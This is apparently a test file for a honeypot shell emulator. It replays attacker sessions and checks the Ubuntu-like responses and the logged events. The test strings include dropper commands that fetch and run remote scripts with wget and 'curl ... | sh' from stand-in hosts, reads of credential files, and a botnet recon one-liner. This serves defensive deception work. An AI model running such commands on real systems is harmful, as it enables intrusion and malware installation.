// End-to-end sessions through createShell: a realistic attacker script with exact outputs and the
// events it produces, prompts, continuation lines, sudo/su password prompts and logout.

import { describe, it, expect } from 'vitest';
import { testSession } from './test-session';

describe('attacker session', () => {
  it('answers a typical recon-and-dropper script like an Ubuntu host', () => {
    const s = testSession();
    const host = s.persona.hostname;
    expect(s.shell.prompt()).toBe(`deploy@${host}:~$ `);
    expect(s.run('uname -a')).toBe(`Linux ${host} 5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n`);
    expect(s.run('id')).toBe('uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),4(adm),24(cdrom),27(sudo),30(dip),46(plugdev)\n');
    const passwd = s.run('cat /etc/passwd');
    expect(passwd.startsWith('root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n')).toBe(true);
    expect(passwd).toContain('deploy:x:1000:1000:Deploy,,,:/home/deploy:/bin/bash\n');
    expect(passwd).toContain('www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n');
    expect(s.run('cd /tmp')).toBe('');
    expect(s.shell.prompt()).toBe(`deploy@${host}:/tmp$ `);
    expect(s.run('wget http://x/y.sh')).toBe(
      '--2024-05-09 10:11:12--  http://x/y.sh\nResolving x (x)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address \u2018x\u2019\n',
    );
    expect(s.run('chmod +x y.sh')).toBe("chmod: cannot access 'y.sh': No such file or directory\n");
    expect(s.run('./y.sh')).toBe('-bash: ./y.sh: No such file or directory\n');
    expect(s.run('echo $?')).toBe('127\n');
    const history = s.run('history');
    expect(history).toMatch(/ {2}uname -a\n +\d+ {2}id\n +\d+ {2}cat \/etc\/passwd\n +\d+ {2}cd \/tmp\n +\d+ {2}wget http:\/\/x\/y\.sh\n +\d+ {2}chmod \+x y\.sh\n +\d+ {2}\.\/y\.sh\n +\d+ {2}echo \$\?\n +\d+ {2}history\n$/);

    const commands = s.events.filter((e) => e.type === 'command');
    expect(commands.map((e) => e.fields.cmd)).toEqual(['uname -a', 'id', 'cat /etc/passwd', 'cd /tmp', 'wget http://x/y.sh', 'chmod +x y.sh', './y.sh', 'echo $?', 'history']);
    expect(commands[4]?.fields).toEqual({ cmd: 'wget http://x/y.sh', pwd: '/tmp', user: 'deploy', uid: '1000', exit_code: '4' });
    expect(commands[3]?.fields.pwd).toBe('/home/deploy');
    expect(commands[6]?.fields.exit_code).toBe('127');
    expect(s.events.filter((e) => e.type === 'download')).toEqual([{ type: 'download', fields: { url: 'http://x/y.sh', tool: 'wget' } }]);
  });

  it('runs the common SSH-botnet one-liner with consistent answers', () => {
    const s = testSession();
    const out = s.run(
      "cat /proc/cpuinfo | grep name | wc -l ; cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}' ; free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}' ; which ls ; crontab -l ; uname -m",
    );
    const lines = out.split('\n');
    expect(lines[0]).toBe('2');
    expect(lines[1]).toBe('Intel(R) Xeon(R) CPU E5-2680 v4 @');
    expect(lines[2]).toMatch(/^3911 \d+ \d+ \d+ \d+ \d+$/);
    expect(lines[3]).toBe('/usr/bin/ls');
    expect(lines[4]).toBe('no crontab for deploy');
    expect(lines[5]).toBe('x86_64');
  });

  it('records curl downloads and shows the progress meter when piped', () => {
    const s = testSession();
    const out = s.run('curl http://203.0.113.9:8080/bins.sh | sh');
    expect(out).toContain('--:--:-- --:--:-- --:--:--     0curl: (7) Failed to connect to 203.0.113.9 port 8080 after');
    expect(s.events.find((e) => e.type === 'download')?.fields).toEqual({ url: 'http://203.0.113.9:8080/bins.sh', tool: 'curl' });
    expect(s.run('curl -s http://evil.example/a')).toBe('');
    expect(s.run('echo $?')).toBe('6\n');
  });

  it('creates, lists and removes files only within the session overlay', () => {
    const a = testSession();
    a.run('cd /tmp; echo payload > drop.sh; chmod 755 drop.sh; mkdir work');
    expect(a.run('ls')).toContain('drop.sh');
    expect(a.run('cat drop.sh')).toBe('payload\n');
    expect(a.run('ls -l drop.sh')).toBe('-rwxr-xr-x 1 deploy deploy 8 May  9 10:11 drop.sh\n');
    const b = testSession();
    expect(b.run('ls /tmp/drop.sh')).toBe("ls: cannot access '/tmp/drop.sh': No such file or directory\n");
    expect(a.run('rm drop.sh; rm drop.sh')).toBe("rm: cannot remove 'drop.sh': No such file or directory\n");
  });

  it('runs a script the attacker wrote, through the emulator', () => {
    const s = testSession();
    s.run('cd /tmp');
    s.run("printf '#!/bin/sh\\necho started\\nid -u\\nnosuch\\n' > x.sh");
    expect(s.run('./x.sh')).toBe('-bash: ./x.sh: Permission denied\n');
    s.run('chmod +x x.sh');
    expect(s.run('./x.sh')).toBe('started\n1000\n./x.sh: 4: nosuch: not found\n');
    expect(s.run('sh -c "echo hi; exit 3"; echo $?')).toBe('hi\n3\n');
  });
});

describe('interactive behaviour', () => {
  it('asks for a continuation line on open quotes and trailing pipes', () => {
    const s = testSession();
    expect(s.run('echo "one')).toBe('');
    expect(s.shell.prompt()).toBe('> ');
    expect(s.run('two"')).toBe('one\ntwo\n');
    expect(s.run('echo abc |')).toBe('');
    expect(s.run('tr a-z A-Z')).toBe('ABC\n');
    expect(s.shell.prompt()).toMatch(/\$ $/);
  });

  it('reports syntax errors like bash with status 2', () => {
    const s = testSession();
    expect(s.run('| ls')).toBe("-bash: syntax error near unexpected token `|'\n");
    expect(s.run('echo $?')).toBe('2\n');
    expect(s.run('ls ;;')).toBe("-bash: syntax error near unexpected token `;;'\n");
  });

  it('says "command not found" with exit status 127', () => {
    const s = testSession();
    expect(s.run('foobar --x')).toBe('-bash: foobar: command not found\n');
    expect(s.run('echo $?')).toBe('127\n');
  });

  it('prompts for the sudo password, accepts only the login password, and caches it', () => {
    const s = testSession();
    expect(s.run('sudo id')).toBe('');
    expect(s.shell.prompt()).toBe('[sudo] password for deploy: ');
    expect(s.shell.isSecretInput()).toBe(true);
    expect(s.run('letmein')).toBe('\nSorry, try again.\n');
    expect(s.run('hunter2')).toBe('\nuid=0(root) gid=0(root) groups=0(root)\n');
    expect(s.shell.isSecretInput()).toBe(false);
    expect(s.run('sudo whoami')).toBe('root\n');
    const auth = s.events.filter((e) => e.type === 'auth_attempt').map((e) => [e.fields.secret_printable, e.fields.outcome]);
    expect(auth).toEqual([['letmein', 'failure'], ['hunter2', 'success']]);
    expect(s.events.filter((e) => e.type === 'command').map((e) => e.fields.cmd)).toEqual(['sudo id', 'sudo whoami']);
  });

  it('gives non-admin users the sudoers refusal after the password', () => {
    const s = testSession({ user: 'maria' });
    s.run('sudo cat /etc/shadow');
    expect(s.run('hunter2')).toBe('\nmaria is not in the sudoers file.  This incident will be reported.\n');
    s.run('sudo ls');
    s.run('a');
    s.run('b');
    expect(s.run('c')).toBe('\nsudo: 3 incorrect password attempts\n');
  });

  it('su to root fails; sudo -i opens a root shell that exit leaves', () => {
    const s = testSession();
    s.run('su -');
    expect(s.shell.prompt()).toBe('Password: ');
    expect(s.run('toor')).toBe('\nsu: Authentication failure\n');
    s.run('sudo -i');
    s.run('hunter2');
    expect(s.shell.prompt()).toBe(`root@${s.persona.hostname}:~# `);
    expect(s.run('pwd; whoami')).toBe('/root\nroot\n');
    expect(s.shell.execute('exit')).toEqual({ output: 'logout\n' });
    expect(s.shell.prompt()).toBe(`deploy@${s.persona.hostname}:~$ `);
    s.run('sudo su');
    expect(s.shell.prompt()).toBe(`root@${s.persona.hostname}:/home/deploy# `);
    expect(s.run('echo $HOME; whoami')).toBe('/root\nroot\n');
    expect(s.shell.execute('exit')).toEqual({ output: 'exit\n' });
    expect(s.run('whoami')).toBe('deploy\n');
    expect(s.shell.execute('exit')).toEqual({ output: 'logout\n', exit: true });
  });

  it('Ctrl-C abandons a continuation', () => {
    const s = testSession();
    s.run('echo "unterminated');
    s.shell.interrupt();
    expect(s.shell.prompt()).toMatch(/\$ $/);
    expect(s.run('echo $?')).toBe('130\n');
  });

  it('SSH exec requests get non-tty output and cannot prompt', () => {
    const s = testSession({ session: { pty: false } });
    expect(s.run('ls /')).toBe('bin\nboot\ndev\netc\nhome\nlib\nlib64\nlost+found\nmedia\nmnt\nopt\nproc\nroot\nrun\nsbin\nsrv\nsys\ntmp\nusr\nvar\n');
    expect(s.run('sudo id')).toBe('sudo: a terminal is required to read the password; either use the -S option to read from standard input or configure an askpass helper\nsudo: a password is required\n');
    expect(s.run('echo hunter2 | sudo -S id')).toBe('[sudo] password for deploy: uid=0(root) gid=0(root) groups=0(root)\n');
    expect(s.shell.execute('exit 3')).toEqual({ output: '', exit: true });
  });

  it('Telnet logins print pam_lastlog before the motd', () => {
    const s = testSession({ session: { protocol: 'telnet' } });
    expect(s.shell.banner()).toMatch(/^Last login: \w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d UTC 2024 from 192\.168\.10\.\d+ on pts\/1\nWelcome to Ubuntu/);
    expect(s.run('env | grep -c SSH_')).toBe('0\n');
    expect(s.run('ps aux | grep "login --"')).toMatch(/^root +\d+ .* login -- deploy\n/);
  });

  it('prints the Ubuntu motd with the last login', () => {
    const s = testSession();
    const banner = s.shell.banner();
    expect(banner.startsWith('Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-105-generic x86_64)\n')).toBe(true);
    expect(banner).toContain(`IPv4 address for eth0: ${s.persona.ip}`);
    expect(banner).toMatch(/\nLast login: \w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d 2024 from 192\.168\.10\.\d+\n$/);
  });
});
